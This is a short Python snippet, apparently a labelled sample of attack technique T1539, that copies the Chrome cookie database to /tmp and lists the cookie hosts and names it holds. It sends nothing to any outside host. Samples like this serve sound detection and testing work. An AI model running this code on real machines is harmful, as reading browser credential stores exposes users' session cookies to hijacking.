# hostile: browser cookie database copied (T1539 steal web session cookie)
import shutil
import sqlite3
from pathlib import Path

src = Path.home() / ".config/google-chrome/Default/Cookies"
shutil.copy(src, "/tmp/c.db")
print(sqlite3.connect("/tmp/c.db").execute("select host_key, name from cookies").fetchall())
